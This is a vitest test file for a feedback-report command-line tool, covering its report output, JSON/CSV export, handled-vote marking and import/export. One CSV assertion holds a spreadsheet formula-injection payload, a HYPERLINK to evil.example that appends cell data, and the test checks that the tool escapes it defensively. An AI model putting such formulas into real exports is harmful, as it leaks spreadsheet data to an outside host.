import { writeFileSync } from "node:fs";
import { expect, test, vi } from "vitest";
import { feedbackCommand } from "../../support/feedback-command.ts";
import { readerId, texts, vote } from "../../support/seed.ts";

// Each call is a process that reads all of `content`: seconds on a machine that has other work.
vi.setConfig({ testTimeout: 120_000 });

test("the report has pages with the names of their ports, weeks and comments", async () => {
  const { run } = await feedbackCommand();
  const { status, stdout } = run("");
  expect(status).toBe(0);
  expect(stdout).toMatch(/^7\d\d votes on 12 pages: /);
  expect(stdout).toMatch(/\n +6379 {2}Redis/);
  expect(stdout).toMatch(/\n\d{4}-W\d\d {2}\d{4}-\d\d-\d\d +\d+ {2}█+▓*░*\n/);
  expect(stdout).toContain(`  ${texts.plain}\n  (handle 770 ${readerId(900)})\n`);
});

test("JSON is for programs, CSV for spreadsheets", async () => {
  const { run } = await feedbackCommand();
  const json = JSON.parse(run("--json --port 770 --limit 2").stdout) as object;
  expect(json).toMatchObject({ version: 1, filter: { port: 770 }, comments: { length: 2 } });
  expect(run("comments --csv").stdout).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",`);
});

test("a vote that was handled is left out of those that are not", async () => {
  const { run } = await feedbackCommand([vote({ comment: "Only this." })]);
  expect(run(`handle 770 ${readerId(1)}`)).toMatchObject({ status: 0, stdout: "Marked as handled.\n" });
  expect(run("comments --unhandled").stdout).not.toContain("Only this.");
  expect(run(`handle 770 ${readerId(1)} --undo`).stdout).toBe("Marked as not handled.\n");
  expect(run("comments --unhandled").stdout).toContain("Only this.");
  expect(run(`handle 771 ${readerId(1)}`)).toMatchObject({
    status: 1,
    stderr: `There is no vote of reader ${readerId(1)} on port 771: copy both from the report\n`,
  });
});

test("what one store has is exported and imported into another, as often as one likes", async () => {
  const { run, folder } = await feedbackCommand([vote(), vote({ port: 22, comment: texts.lines })]);
  expect(run("export votes.jsonl").stdout).toBe("All votes are in votes.jsonl.\n");
  const other = `file:${folder}/other.db`;
  expect(run("import votes.jsonl", other).stdout).toBe("2 votes added, 0 changed, 0 there already.\n");
  expect(run("import votes.jsonl", other).stdout).toBe("0 votes added, 0 changed, 2 there already.\n");
  expect(run("export", other).stdout).toBe(run("export").stdout);
});

test("a bad line, a missing file and a bad option end with one clear error", async () => {
  const { run, folder } = await feedbackCommand([]);
  writeFileSync(`${folder}/bad.jsonl`, '{"portolan":"feedback","version":1}\n{"line":"vote"}\n');
  expect(run("import bad.jsonl")).toMatchObject({ status: 1, stdout: "" });
  expect(run("import bad.jsonl").stderr).toContain(`${folder}/bad.jsonl:2: port is not a port`);
  expect(run("import none.jsonl")).toMatchObject({
    status: 1,
    stderr: `${folder}/none.jsonl is not there: give the path of a file in a folder that exists\n`,
  });
  expect(run("--port x")).toMatchObject({
    status: 2,
    stdout: "",
    stderr: '--port "x" is not a port: give a whole number from 0 to 65535\n',
  });
});
